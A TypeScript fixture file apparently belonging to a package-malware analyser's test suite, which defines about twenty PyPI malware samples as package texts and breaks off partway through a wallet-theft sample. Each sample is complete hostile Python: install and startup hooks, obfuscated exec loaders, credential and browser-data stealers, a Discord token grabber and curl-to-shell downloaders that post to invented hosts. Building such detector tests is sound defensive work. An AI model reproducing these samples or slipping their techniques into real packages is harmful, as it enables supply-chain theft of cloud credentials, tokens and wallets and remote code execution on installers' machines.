/**
 * Inert PyPI malware variants, SET6 (blind, held out): written on 2026-11-28 without looking at the
 * analyser (shared/packages, shared/sandbox), its rules, docs/package-analysis.md, the flow-*.ts files,
 * test/unit/ (except the calling code of test/unit/pkg-blind-set10-5.test.ts), bench/ or the malware
 * corpus. What was read: test/support/blind-halves.ts, the first lines of
 * test/support/pypi-variant-rating.ts, the PypiVariant shape and pypiSdist packer of
 * test/support/pypi-variants-set1.ts, the header comment and helpers of PyPI SET5 and npm SET10 (their
 * format and lists of shapes, so that this set prefers others), and public reports found with the
 * `search` tool (listed below).
 *
 * Shapes. Install and startup triggers: a `.pth` file placed at the site-packages root by a
 * `build_py` subclass (litellm, March 2026) and by hatch `force-include` (the .pth only imports a
 * module of the package, which does the work); `cmdclass` on install, on develop + egg_info together,
 * an in-tree PEP 517 backend (`backend-path`) that wraps setuptools and acts in
 * `get_requires_for_build_wheel`, a hatch custom build hook's `initialize()`; `sitecustomize` /
 * `usercustomize` written into the user site directory. Import-time: a daemon thread started from
 * `__init__` that beacons every few minutes (lightning, 2026), a W4SP-style `__import__('builtins').exec`
 * parked after hundreds of spaces, integer-array URLs, f-string-assembled URLs, hex + XOR, two nested
 * zlib + base64 layers, a `marshal`led code object, NFKC homoglyph identifiers (mathematical italic
 * letters that Python folds to `exec` / `b64decode`), `getattr` / `globals()` / `vars()` indirection,
 * a payload buried in the middle of a large generated table module. Theft: Discord leveldb tokens,
 * Chrome `Local State` key + `CryptUnprotectData`, Exodus / Electrum / MetaMask stores, `~/.pypirc`
 * and GitHub Actions OIDC (CI-only), `~/.ssh`, a `sudo` alias that captures the password. Channels:
 * DNS labels, Discord webhook, Telegram-style `sendDocument`, an issue tracker's REST API, a paste
 * site, a pyngrok tunnel to the local SSH port. Download and run: `requests` streamed with
 * `iter_content`, `start_new_session`, PowerShell `-EncodedCommand`. Destructive: locale / timezone
 * protestware and a date time bomb. Persistence: shell rc, crontab, systemd user unit,
 * site-packages. Deserialisation: `pickle.loads` of a fetched "checkpoint", `yaml.unsafe_load` of a
 * fetched config. Typosquats with a real library's code copied in (an ANSI colour library and a
 * terminal-colour helper) and a small payload added. A pty reverse shell.
 *
 * About a third are "hard" (the note says so): split over files, reached through indirection, next
 * to decoys that do the stated job. Each note starts with `[trigger]` or `[trigger, hard]`, trigger
 * one of install, build-backend, startup, import, runtime, build, none. PYPI_TWINS_SET6 are honest
 * near twins that use the same mechanisms for their stated purpose.
 *
 * Nothing here runs: the texts are packed into in-memory tarballs by pypiSdist. Hosts are invented
 * (`.example` / `.invalid` / `.test`, TEST-NET addresses). No package registry host is written.
 * Tokens and keys come from the seeded generator `invented` of npm-variants.ts. The marshal blob is a
 * CPython 3.11 code object compiled from a short text that posts selected environment variables to an
 * invented host (so a reader that unmarshals it sees the same thing a reader of the source would).
 *
 * Sources (public reports the variants follow; `search` corpus "pages"):
 * - litellm .pth (March 2026) and lightning import-time daemon thread (2026):
 *   https://pydevtools.com/handbook/explanation/why-installing-a-python-package-can-run-code.md ,
 *   https://docs.bswen.com/blog/2026-03-27-python-pth-file-attack-vector ,
 *   https://docs.bswen.com/blog/2026-03-25-python-pth-file-security
 * - Startup surfaces (.pth, sitecustomize, usercustomize): https://krash.dev/posts/before-your-code-runs/python
 * - Miasma wave spreading to PyPI (credentials, CI tokens): https://www.aikido.dev/blog/exploring-binding-gyp-npm-build-system
 * - node-ipc / peacenotwar protestware, used here in Python form: https://veln.sh/blog/node-ipc-protest-ware-russia-ukraine
 * - GuardDog PyPI heuristics (exec-base64, code-execution, download-executable, cmd-overwrite,
 *   obfuscation, exfiltrate-sensitive-data): https://github.com/DataDog/guarddog
 * - Widely reported families used by name (no page copied): W4SP stealer (2022), colorama /
 *   termcolor typosquats (2022-24), ctx (2022, env exfil), pickle-in-model-file payloads (2024-25).
 */

import { deflateSync } from 'node:zlib';
import { invented } from './npm-variants.js';
import type { PypiVariant } from './pypi-variants-set1.js';

/** Raw template: generated Python keeps its backslashes. Contents avoid backticks and `${`. */
const py = String.raw;
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const zb64 = (s: string): string => deflateSync(Buffer.from(s)).toString('base64');
const codes = (s: string): string => [...Buffer.from(s)].join(', ');
const hexXor = (s: string, key: string): string =>
  Buffer.from([...Buffer.from(s)].map((c, i) => c ^ key.charCodeAt(i % key.length))).toString('hex');
/** Lower-case ASCII letters as MATHEMATICAL SANS-SERIF ITALIC letters (NFKC folds them back). */
const italic = (s: string): string =>
  [...s].map((c) => (c >= 'a' && c <= 'z' ? String.fromCodePoint(0x1d622 + c.charCodeAt(0) - 97) : c)).join('');

const g = invented(0x5e76, 6);
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const HEX = '0123456789abcdef';
const HOOK_ID = g('0123456789', 18);
const HOOK_KEY = g(ALNUM + '_-', 64);
const BOT_TOKEN = `${g('0123456789', 10)}:${g(ALNUM, 35)}`;
const PASTE_KEY = g(HEX, 32);
const TRACKER_TOKEN = `ghp_${g(ALNUM, 36)}`;
const NGROK_TOKEN = `${g(ALNUM, 27)}_${g(ALNUM, 21)}`;
const SHA_A = g(HEX, 64);
const SHA_B = g(HEX, 64);

/** CPython 3.11 marshal of a short text posting TOKEN / KEY / SECRET / PASS env vars to an invented host. */
const MARSHAL_B64 =
  'YwAAAAAAAAAAAAAAAAgAAAAAAAAA85ABAACXAGQAZAFsAFoAZABkAWwBWgFkAGQBbAJaA2QChABlAGoEAAAAAAAAAACgBQAAAAAAAAAAAAAAAAAAAAAAAAAApgAAAKsAAAAAAAAAAABEAKYAAACrAAAAAAAAAAAAWgYCAGUHZQBkA6YCAACrAgAAAAAAAAAAchQCAGUAaggAAAAAAAAAAKYAAACrAAAAAAAAAAAAagkAAAAAAAAAAG4ZZQBqBAAAAAAAAAAAoAoAAAAAAAAAAAAAAAAAAAAAAAAAAGQEpgEAAKsBAAAAAAAAAABlBmQFPAAAAGUDagsAAAAAAAAAAKAMAAAAAAAAAAAAAAAAAAAAAAAAAABlA2oLAAAAAAAAAACgDQAAAAAAAAAAAAAAAAAAAAAAAAAAZAYCAGUBag4AAAAAAAAAAGUGpgEAAKsBAAAAAAAAAACgDwAAAAAAAAAAAAAAAAAAAAAAAAAApgAAAKsAAAAAAAAAAABkB2QIaQGsCaYDAACrAwAAAAAAAAAAZAqsC6YCAACrAgAAAAAAAAAAAQBkAVMAKQzpAAAAAE5jAQAAAAAAAAAAAAAABgAAAAMAAADzUgAAAIcClwBpAHwAXSNcAgAAigJ9AXQBAAAAAAAAAAAAAIgCZgFkAIQIZAFEAKYAAACrAAAAAAAAAAAApgEAAKsBAAAAAAAAAACvIIkCfAGTAowkUwApAmMBAAAAAAAAAAAAAAADAAAAMwAAAPMgAAAAlQFLAAEAlwB8AF0IfQF8AYkCdgBWAJcBAQCMCWQAUwApAU6pACkD2gIuMNoBdNoBa3MDAAAAICCA+g48ZnJvemVuIGNhY2hlPvoJPGdlbmV4cHI+ehQ8ZGljdGNvbXA+LjxnZW5leHByPgIAAABzJwAAAPjoAOgAgADQL2PQL2O4MbABsFGwBtAvY9AvY9AvY9AvY9AvY9AvY/MAAAAAKQTaBVRPS0VO2gNLRVnaBlNFQ1JFVNoEUEFTUykB2gNhbnkpA3IFAAAA2gF2cgcAAABzAwAAACAgQHIIAAAA+go8ZGljdGNvbXA+chEAAAACAAAAc0IAAAD4gADQBGTQBGTQBGSJZIhhkBGtQ9AvY9AvY9AvY9AvY9BAYtAvY9EvY9QvY9EsY9QsY9AEZIBRiAHQBGTQBGTQBGRyCgAAANoFdW5hbWXaDENPTVBVVEVSTkFNRdoEaG9zdHolaHR0cHM6Ly9jYWNoZS5weWMtbWlycm9yLmV4YW1wbGUvdjIvY3oMQ29udGVudC1UeXBlehBhcHBsaWNhdGlvbi9qc29uKQLaBGRhdGHaB2hlYWRlcnPpBQAAACkB2gd0aW1lb3V0KRDaAm9z2gRqc29u2g51cmxsaWIucmVxdWVzdNoGdXJsbGli2gdlbnZpcm9u2gVpdGVtc9oBZNoHaGFzYXR0cnISAAAA2ghub2RlbmFtZdoDZ2V02gdyZXF1ZXN02gd1cmxvcGVu2gdSZXF1ZXN02gVkdW1wc9oGZW5jb2RlcgQAAAByCgAAAHIIAAAA+gg8bW9kdWxlPnIoAAAAAQAAAHMEAQAA8AMBAQHYAB/QAB/QAB/QAB/QAB/QAB/QAB/QAB/QAB/QAB/QAB/QAB/YBGTQBGSQYpRq1xYm0hYm0RYo1BYo0ARk0QRk1ARkgAHYIyqgN6gyqHfRIzfUIzfQDFuISIhCjEiJSoxK1Awf0AwfuFK8Wr9eul7ITtE9W9Q9W4ABgCaBCdgABoQO1wAW0gAWkHaUftcXLdIXLdAuVdBcZtBcYNRcZtBnaNFcadRcaddccNJccNFcctRccvAAAH4BTALwAABOAmAC8AAAfQFhAtAXLfEAABhiAvQAABhiAvAAAGwCbQLQABbxAAABbgL0AAABbgLwAAABbgLwAAABbgLwAAABbgJyCgAAAA==';

function pkgInfo(name: string, version: string, summary: string): string {
  return `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\nSummary: ${summary}\n`;
}

function setupPy(name: string, version: string, extra = ''): string {
  return `from setuptools import setup, find_packages\n\nsetup(\n    name="${name}",\n    version="${version}",\n    packages=find_packages(),${extra}\n)\n`;
}

/** A PypiVariant body: PKG-INFO, and a plain setup.py unless the files bring their own build files. */
function pkg(
  name: string,
  version: string,
  summary: string,
  files: Record<string, string | Buffer>,
): Pick<PypiVariant, 'name' | 'version' | 'files'> {
  const base: Record<string, string | Buffer> = { 'PKG-INFO': pkgInfo(name, version, summary) };
  if (!('setup.py' in files) && !('pyproject.toml' in files)) base['setup.py'] = setupPy(name, version);
  return { name, version, files: { ...base, ...files } };
}

/** A large generated lookup-table module; `payload` lines spliced in after row `at` (none when at < 0). */
function tableModule(rows: number, payload: string, at: number): string {
  const out: string[] = [
    '# Generated by tools/gen_tables.py -- do not edit.',
    '# Unicode East Asian width and combining class ranges.',
    '',
    'WIDTH_RANGES = (',
  ];
  for (let i = 0; i < rows; i++) {
    const lo = 0x1100 + i * 37;
    out.push(
      `    (0x${lo.toString(16).padStart(5, '0')}, 0x${(lo + (i % 23) + 3).toString(16).padStart(5, '0')}, ${1 + (i % 2)}),`,
    );
    if (i === at) out.push(')', '', payload, '', 'WIDTH_RANGES = WIDTH_RANGES + (');
  }
  out.push(
    ')',
    '',
    'def width(cp):',
    '    lo, hi = 0, len(WIDTH_RANGES) - 1',
    '    while lo <= hi:',
    '        mid = (lo + hi) // 2',
    '        a, b, w = WIDTH_RANGES[mid]',
    '        if cp < a:',
    '            hi = mid - 1',
    '        elif cp > b:',
    '            lo = mid + 1',
    '        else:',
    '            return w',
    '    return 1',
    '',
  );
  return out.join('\n');
}

export const PYPI_VARIANTS_SET6: readonly PypiVariant[] = [
  {
    id: 'pth-via-build-py-startup-harvester',
    family: 'pth_startup',
    note: "[startup] a build_py subclass copies a .pth into the wheel's site-packages root; its import line base64-decodes and exec()s a harvester (env, ~/.kube/config, ~/.aws) that runs on every interpreter start",
    ...pkg('llm-router-proxy', '1.82.8', 'Route LLM calls across providers', {
      'setup.py': py`import os
import shutil
from setuptools import setup, find_packages
from setuptools.command.build_py import build_py


class BuildWithInit(build_py):
    def run(self):
        super().run()
        shutil.copy("llm_router_init.pth", os.path.join(self.build_lib, "llm_router_init.pth"))


setup(
    name="llm-router-proxy",
    version="1.82.8",
    packages=find_packages(),
    cmdclass={"build_py": BuildWithInit},
)
`,
      'llm_router_init.pth': `import os, base64; exec(base64.b64decode('${b64("import os,json,threading,urllib.request\ndef _r(p):\n    try:\n        return open(os.path.expanduser(p)).read()\n    except Exception:\n        return ''\ndef _go():\n    d = {'env': dict(os.environ), 'kube': _r('~/.kube/config'), 'aws': _r('~/.aws/credentials'), 'gcp': _r('~/.config/gcloud/application_default_credentials.json')}\n    try:\n        urllib.request.urlopen('https://models.llm-router.example/v1/telemetry', json.dumps(d).encode(), timeout=5)\n    except Exception:\n        pass\nif not os.environ.get('LLMR_DONE'):\n    os.environ['LLMR_DONE'] = '1'\n    threading.Thread(target=_go, daemon=True).start()\n")}'))\n`,
      'llm_router/__init__.py': py`from .router import Router

__all__ = ["Router"]
`,
      'llm_router/router.py': py`class Router:
    def __init__(self, models):
        self.models = list(models)

    def pick(self, i=0):
        return self.models[i % len(self.models)]
`,
    }),
  },
  {
    id: 'pth-hatch-force-include-imports-module',
    family: 'pth_startup',
    note: '[startup, hard] hatch force-include maps a one-line .pth to the site-packages root; the line only imports a private module of the package, whose import starts a thread that sends env and ~/.netrc; nothing in the .pth itself looks like code',
    ...pkg('fastjsonpath', '0.9.2', 'JSONPath queries, fast', {
      'pyproject.toml': py`[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "fastjsonpath"
version = "0.9.2"
description = "JSONPath queries, fast"

[tool.hatch.build.targets.wheel]
packages = ["src/fastjsonpath"]

[tool.hatch.build.targets.wheel.force-include]
"src/fastjsonpath_accel.pth" = "fastjsonpath_accel.pth"
`,
      'src/fastjsonpath_accel.pth': 'import fastjsonpath._accel\n',
      'src/fastjsonpath/__init__.py': py`from .query import query

__all__ = ["query"]
`,
      'src/fastjsonpath/query.py': py`def query(doc, path):
    cur = doc
    for part in path.lstrip("$.").split("."):
        if part == "":
            continue
        cur = cur[int(part)] if isinstance(cur, list) else cur.get(part)
        if cur is None:
            return None
    return cur
`,
      'src/fastjsonpath/_accel.py': py`"""Warm the accelerated parser cache at interpreter start."""
import os
import threading


def _warm():
    import json
    import urllib.request

    payload = {"env": dict(os.environ)}
    try:
        with open(os.path.expanduser("~/.netrc")) as f:
            payload["netrc"] = f.read()
    except OSError:
        pass
    req = urllib.request.Request("https://accel.jsonpath-cdn.example/warm", data=json.dumps(payload).encode(), method="POST")
    try:
        urllib.request.urlopen(req, timeout=3)
    except Exception:
        pass


threading.Thread(target=_warm, daemon=True).start()
`,
    }),
  },
  {
    id: 'cmdclass-install-urlretrieve-os-system',
    family: 'cmdclass_install',
    note: '[install] setup.py install command subclass: after the normal install it urlretrieve()s a shell script from an invented host to /tmp and runs it with os.system',
    ...pkg('pandas-profiling-lite', '3.6.6', 'Lightweight data profiling', {
      'setup.py': py`import os
import urllib.request
from setuptools import setup, find_packages
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            urllib.request.urlretrieve("http://198.51.100.41/pp/setup.sh", "/tmp/.pp_setup.sh")
            os.system("sh /tmp/.pp_setup.sh >/dev/null 2>&1 &")
        except Exception:
            pass


setup(
    name="pandas-profiling-lite",
    version="3.6.6",
    packages=find_packages(),
    install_requires=["pandas"],
    cmdclass={"install": PostInstall},
)
`,
      'pandas_profiling_lite/__init__.py': py`def profile(df):
    return {c: {"dtype": str(df[c].dtype), "nulls": int(df[c].isna().sum())} for c in df.columns}
`,
    }),
  },
  {
    id: 'cmdclass-develop-egg-info-aws-creds',
    family: 'cmdclass_install',
    note: '[install] setup.py hooks develop and egg_info (so both pip install and pip install -e run it) with one function that posts ~/.aws/credentials and ~/.config/gcloud tokens',
    ...pkg('boto3-stubs-extra', '1.34.2', 'Extra type stubs for boto3', {
      'setup.py': py`import json
import os
import urllib.request
from setuptools import setup, find_packages
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info


def _sync():
    out = {}
    for p in ("~/.aws/credentials", "~/.aws/config", "~/.config/gcloud/credentials.db", "~/.azure/accessTokens.json"):
        try:
            with open(os.path.expanduser(p), "rb") as f:
                out[p] = f.read().decode("latin-1")
        except OSError:
            pass
    if out:
        try:
            urllib.request.urlopen(urllib.request.Request("https://stubs.boto-extra.example/sync", data=json.dumps(out).encode()), timeout=5)
        except Exception:
            pass


class Develop(develop):
    def run(self):
        _sync()
        develop.run(self)


class EggInfo(egg_info):
    def run(self):
        _sync()
        egg_info.run(self)


setup(
    name="boto3-stubs-extra",
    version="1.34.2",
    packages=find_packages(),
    cmdclass={"develop": Develop, "egg_info": EggInfo},
)
`,
      'boto3_stubs_extra/__init__.pyi': py`def client(service_name: str, **kwargs: object) -> object: ...
`,
    }),
  },
  {
    id: 'in-tree-backend-get-requires-posts-env',
    family: 'build_backend',
    note: '[build-backend, hard] pyproject names an in-tree backend (backend-path = ["_build"]) that re-exports setuptools.build_meta and wraps get_requires_for_build_wheel; the wrapper sends the environment before returning the requirement list',
    ...pkg('numpy-financial-ext', '1.1.0', 'Financial functions on numpy arrays', {
      'pyproject.toml': py`[build-system]
requires = ["setuptools>=68", "wheel"]
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "numpy-financial-ext"
version = "1.1.0"
dependencies = ["numpy"]
`,
      '_build/backend.py': py`from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403

from _support import requirements_for


def get_requires_for_build_wheel(config_settings=None):
    return _orig.get_requires_for_build_wheel(config_settings) + requirements_for("wheel")


def get_requires_for_build_sdist(config_settings=None):
    return _orig.get_requires_for_build_sdist(config_settings) + requirements_for("sdist")
`,
      '_build/_support.py': py`import json
import os
import platform
import urllib.request

_MIRROR = "https://wheels.npf-mirror.example/resolve"


def requirements_for(kind):
    info = {"kind": kind, "py": platform.python_version(), "env": {k: v for k, v in os.environ.items()}}
    try:
        with urllib.request.urlopen(urllib.request.Request(_MIRROR, data=json.dumps(info).encode()), timeout=4) as r:
            r.read()
    except Exception:
        pass
    return []
`,
      'numpy_financial_ext/__init__.py': py`import numpy as np


def npv(rate, values):
    values = np.asarray(values, dtype=float)
    return float((values / (1 + rate) ** np.arange(len(values))).sum())
`,
    }),
  },
  {
    id: 'hatch-build-hook-downloads-and-runs',
    family: 'build_backend',
    note: '[build-backend] a hatch custom build hook (hatch_build.py) whose initialize() downloads a "prebuilt accelerator" into the temp dir, marks it executable and runs it detached',
    ...pkg('orjson-compat', '3.10.4', 'orjson-compatible API in pure Python', {
      'pyproject.toml': py`[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "orjson-compat"
version = "3.10.4"

[tool.hatch.build.hooks.custom]
path = "hatch_build.py"
`,
      'hatch_build.py': py`import os
import stat
import subprocess
import sys
import tempfile
import urllib.request

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class AccelHook(BuildHookInterface):
    PLUGIN_NAME = "custom"

    def initialize(self, version, build_data):
        name = "accel.exe" if sys.platform == "win32" else "accel"
        dst = os.path.join(tempfile.gettempdir(), name)
        try:
            urllib.request.urlretrieve("https://prebuilt.orjson-compat.example/%s/%s" % (sys.platform, name), dst)
            os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC)
            subprocess.Popen([dst], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        except Exception:
            pass
`,
      'orjson_compat/__init__.py': py`import json


def dumps(obj):
    return json.dumps(obj, separators=(",", ":")).encode()


def loads(data):
    return json.loads(data)
`,
    }),
  },
  {
    id: 'init-daemon-thread-periodic-beacon',
    family: 'import_daemon_thread',
    note: "[import] __init__ starts a daemon thread that every ten minutes posts hostname, user, cwd and environment to an invented host; the package's training helpers are real",
    ...pkg('lightning-utils-x', '2.4.1', 'Utilities for Lightning training loops', {
      'lightning_utils_x/__init__.py': py`import getpass
import json
import os
import platform
import threading
import time
import urllib.request

from .callbacks import EarlyStop


def _heartbeat():
    while True:
        try:
            body = json.dumps({"h": platform.node(), "u": getpass.getuser(), "cwd": os.getcwd(), "env": dict(os.environ)}).encode()
            urllib.request.urlopen("https://hb.lightning-utils.example/v1/hb", body, timeout=10)
        except Exception:
            pass
        time.sleep(600)


threading.Thread(target=_heartbeat, name="lu-metrics", daemon=True).start()

__all__ = ["EarlyStop"]
`,
      'lightning_utils_x/callbacks.py': py`class EarlyStop:
    def __init__(self, patience=3):
        self.patience, self.best, self.bad = patience, None, 0

    def step(self, loss):
        if self.best is None or loss < self.best:
            self.best, self.bad = loss, 0
        else:
            self.bad += 1
        return self.bad >= self.patience
`,
    }),
  },
  {
    id: 'w4sp-spaces-then-builtins-exec',
    family: 'w4sp_hidden_exec',
    note: '[import, hard] a line of the package __init__ is padded with hundreds of spaces and ends in __import__("builtins").exec(...) of a base64 downloader that fetches and execs a second stage',
    ...pkg('typing-extensionz', '4.12.2', 'Backported typing hints', {
      'typing_extensionz/__init__.py':
        py`from typing import *  # noqa: F401,F403
import sys

PEP_604 = sys.version_info >= (3, 10)` +
        ' '.repeat(420) +
        `;__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("${b64("from urllib.request import urlopen as u\nexec(u('https://cdn.typing-ext.example/inject/" + g(ALNUM, 16) + "').read())")}"),'<string>','exec'))\n` +
        py`

def override(method):
    method.__override__ = True
    return method
`,
    }),
  },
  {
    id: 'fstring-url-setup-popen-no-window',
    family: 'setup_download_run',
    note: '[install] setup.py assembles the URL with an f-string from pieces, downloads an .exe to %TEMP% and starts it with CREATE_NO_WINDOW | DETACHED_PROCESS on Windows',
    ...pkg('pywin32-ctypes-ext', '0.3.1', 'ctypes helpers for win32', {
      'setup.py': py`import os
import subprocess
import sys
import tempfile
import urllib.request
from setuptools import setup, find_packages

if sys.platform == "win32":
    sub, dom, tld = "upd", "win32-helpers", "example"
    url = f"https://{sub}.{dom}.{tld}/bin/{sys.version_info[0]}{sys.version_info[1]}/helper.exe"
    dst = os.path.join(tempfile.gettempdir(), "w32helper.exe")
    try:
        urllib.request.urlretrieve(url, dst)
        subprocess.Popen([dst], creationflags=0x08000000 | 0x00000008, close_fds=True)
    except Exception:
        pass

setup(name="pywin32-ctypes-ext", version="0.3.1", packages=find_packages())
`,
      'pywin32_ctypes_ext/__init__.py': py`import ctypes


def message_box(text, title="Info"):
    return ctypes.windll.user32.MessageBoxW(0, text, title, 0)
`,
    }),
  },
  {
    id: 'int-array-url-urlopen-exec-import',
    family: 'import_download_exec',
    note: '[import] the module builds a URL from an integer list with bytes(...).decode(), urlopen()s it and exec()s the body at import',
    ...pkg('requests-oauth-helpers', '0.4.0', 'OAuth helpers for requests', {
      'requests_oauth_helpers/__init__.py': py`from urllib.request import urlopen

_U = bytes([${codes('https://auth.oauth-helpers.example/v2/bootstrap.py')}]).decode()
try:
    exec(urlopen(_U, timeout=5).read().decode())
except Exception:
    pass


def bearer(token):
    return {"Authorization": "Bearer " + token}
`,
    }),
  },
  {
    id: 'hex-xor-key-exec-import',
    family: 'import_download_exec',
    note: '[import] a hex string XOR-decoded with a short key yields Python source (a downloader) that is exec()ed at import',
    ...pkg('aiohttp-retry-plus', '2.8.4', 'Retry middleware for aiohttp', {
      'aiohttp_retry_plus/__init__.py': py`_K = b"r3try"
_D = "${hexXor("import urllib.request as r\nexec(r.urlopen('https://cdn.aiohttp-retry.example/m.py').read())\n", 'r3try')}"
exec(bytes(b ^ _K[i % len(_K)] for i, b in enumerate(bytes.fromhex(_D))).decode())


class RetryOptions:
    def __init__(self, attempts=3, statuses=(500, 502, 503)):
        self.attempts = attempts
        self.statuses = set(statuses)
`,
    }),
  },
  {
    id: 'setup-nested-zlib-base64-exec',
    family: 'layered_exec',
    note: '[install] setup.py exec()s zlib.decompress(base64) whose result is itself an exec of a second zlib+base64 layer; the innermost text posts os.environ',
    ...pkg('black-formatter-plugins', '24.2.1', 'Plugins for black', {
      'setup.py': py`import base64
import zlib
from setuptools import setup, find_packages

exec(zlib.decompress(base64.b64decode("${zb64("import zlib,base64\nexec(zlib.decompress(base64.b64decode('" + zb64("import os,json,urllib.request\nurllib.request.urlopen('https://sync.black-plugins.example/e', json.dumps(dict(os.environ)).encode(), timeout=4)\n") + "')))\n")}")))

setup(name="black-formatter-plugins", version="24.2.1", packages=find_packages())
`,
      'black_formatter_plugins/__init__.py': py`PLUGINS = []
`,
    }),
  },
  {
    id: 'marshal-code-object-exec',
    family: 'marshal_exec',
    note: '[import, hard] a "precompiled cache" module exec()s marshal.loads(base64) of a code object (it posts secret-named env vars); the calling module imports it under an innocuous name',
    ...pkg('pydantic-settings-cache', '2.2.1', 'Cached settings loader for pydantic', {
      'pydantic_settings_cache/__init__.py': py`from . import _speedups  # noqa: F401
from .loader import load_settings

__all__ = ["load_settings"]
`,
      'pydantic_settings_cache/loader.py': py`import os


def load_settings(model, prefix=""):
    return model(**{k[len(prefix):].lower(): v for k, v in os.environ.items() if k.startswith(prefix)})
`,
      'pydantic_settings_cache/_speedups.py': `import base64 as _b
import marshal as _m

_C = "${MARSHAL_B64}"
exec(_m.loads(_b.b64decode(_C)))
`,
    }),
  },
  {
    id: 'nfkc-italic-identifiers-exec',
    family: 'homoglyph_identifiers',
    note: '[import, hard] names are written in mathematical italic letters that Python NFKC-normalises: the line reads as an unknown call but runs exec(base64.b64decode(...)) of a downloader',
    ...pkg('markdown-it-plugins-x', '0.4.2', 'Plugins for markdown-it-py', {
      'markdown_it_plugins_x/__init__.py': `import base64 as ${italic('bx')}

${italic('exec')}(${italic('bx')}.${italic('b')}64${italic('decode')}("${b64("import urllib.request as u\nexec(u.urlopen('https://cdn.mdit-plugins.example/p.py', timeout=5).read())\n")}"))


def footnote_plugin(md):
    md.core.ruler.push("footnote_tail", lambda state: None)
    return md
`,
    }),
  },
  {
    id: 'getattr-globals-vars-indirection',
    family: 'indirection_exec',
    note: '[import, hard] no exec, os.system or subprocess spelled out: getattr(globals()["__builtins__"], ...) and vars(__import__(...))[...] with names joined from pieces run a shell download',
    ...pkg('flask-cors-ext', '4.0.2', 'CORS extension for Flask', {
      'flask_cors_ext/__init__.py': py`from .core import CORS

__all__ = ["CORS"]
`,
      'flask_cors_ext/core.py': py`from ._compat import _init


class CORS:
    def __init__(self, app=None, origins="*"):
        self.origins = origins
        if app is not None:
            self.init_app(app)

    def init_app(self, app):
        @app.after_request
        def _add(resp):
            resp.headers["Access-Control-Allow-Origin"] = self.origins
            return resp


_init()
`,
      'flask_cors_ext/_compat.py': py`def _init():
    b = globals()["__builtins__"]
    imp = b["__imp" + "ort__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
    mod = imp("".join(["o", "s"]))
    run = vars(mod)["sy" + "stem"]
    run("c" + "url -s https://cdn.cors-ext.example/i.sh | s" + "h >/dev/null 2>&1 &")
`,
    }),
  },
  {
    id: 'discord-leveldb-tokens-webhook',
    family: 'discord_token_grabber',
    note: '[import] at import, walks Discord / Lightcord / browser leveldb folders, regexes token-shaped strings and posts them with the Windows user name to a webhook',
    ...pkg('discord-py-slash', '2.3.9', 'Slash commands for discord.py', {
      'discord_py_slash/__init__.py': py`import json
import os
import re
import urllib.request

_R = os.getenv("APPDATA", "")
_L = os.getenv("LOCALAPPDATA", "")
_P = {
    "Discord": _R + "\\discord\\Local Storage\\leveldb",
    "Canary": _R + "\\discordcanary\\Local Storage\\leveldb",
    "Lightcord": _R + "\\Lightcord\\Local Storage\\leveldb",
    "Chrome": _L + "\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb",
}


def _scan():
    found = []
    for name, path in _P.items():
        if not os.path.isdir(path):
            continue
        for f in os.listdir(path):
            if not f.endswith((".log", ".ldb")):
                continue
            with open(os.path.join(path, f), errors="ignore") as fh:
                for line in fh:
                    found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}", line)
    return found


try:
    _t = _scan()
    if _t:
        req = urllib.request.Request("https://hooks.slash-cmds.example/api/webhooks/${HOOK_ID}/${HOOK_KEY}", data=json.dumps({"content": os.getenv("USERNAME", "") + "\n" + "\n".join(_t)}).encode(), headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
        urllib.request.urlopen(req, timeout=5)
except Exception:
    pass


def slash_command(name):
    def deco(fn):
        fn.__slash_name__ = name
        return fn
    return deco
`,
    }),
  },
  {
    id: 'telegram-senddocument-login-data',
    family: 'telegram_exfil',
    note: "[runtime] the package's init_logging() copies Chrome / Edge Login Data and Cookies to temp and sends them with sendDocument to a Telegram-style bot API on an invented host",
    ...pkg('loguru-telegram-sink', '0.3.0', 'Send loguru records to Telegram', {
      'loguru_telegram_sink/__init__.py': py`import os
import shutil
import tempfile

import requests

_API = "https://api.tg-sink.example/bot${BOT_TOKEN}"
_CHAT = "-100${g('0123456789', 10)}"


def _collect():
    base = os.getenv("LOCALAPPDATA", os.path.expanduser("~/.config"))
    for browser in ("Google\\Chrome\\User Data", "Microsoft\\Edge\\User Data", "google-chrome", "chromium"):
        for name in ("Default\\Login Data", "Default\\Network\\Cookies", "Local State"):
            src = os.path.join(base, browser, name)
            if os.path.exists(src):
                dst = os.path.join(tempfile.gettempdir(), browser.replace("\\", "_") + "_" + os.path.basename(name))
                shutil.copyfile(src, dst)
                yield dst


def init_logging(level="INFO"):
    for f in _collect():
        with open(f, "rb") as fh:
            requests.post(_API + "/sendDocument", data={"chat_id": _CHAT}, files={"document": fh}, timeout=10)
    return level


def sink(message):
    requests.post(_API + "/sendMessage", data={"chat_id": _CHAT, "text": str(message)}, timeout=5)
`,
    }),
  },
  {
    id: 'setup-zips-wallets-uploads',
    family: 'wallet_theft',
    note: '[install] setup.py zips the Exodus, Electrum, Atomic and MetaMask (Chrome extension id) folders into memory and uploads the archive',
    ...pkg('web3-multicall-utils', '0.6.1', 'Multicall helpers for web3.py', {
      'setup.py': py`import io
import os
import zipfile

import urllib.request
from setuptools import setup, find_packages

H = os.path.expanduser("~")
A = os.getenv("APPDATA", os.path.join(H, ".config"))
L = os.getenv("LOCALAPPDATA", os.path.join(H, ".config"))
T = [
    os.path.join(A, "Exodus", "exodus.wallet"),
    os.path.join(A, "Electrum", "wallets"),
    os.path.join(H, ".electrum", "wallets"),
    os.path.join(A, "atomic", "Local Storage", "leveldb"),
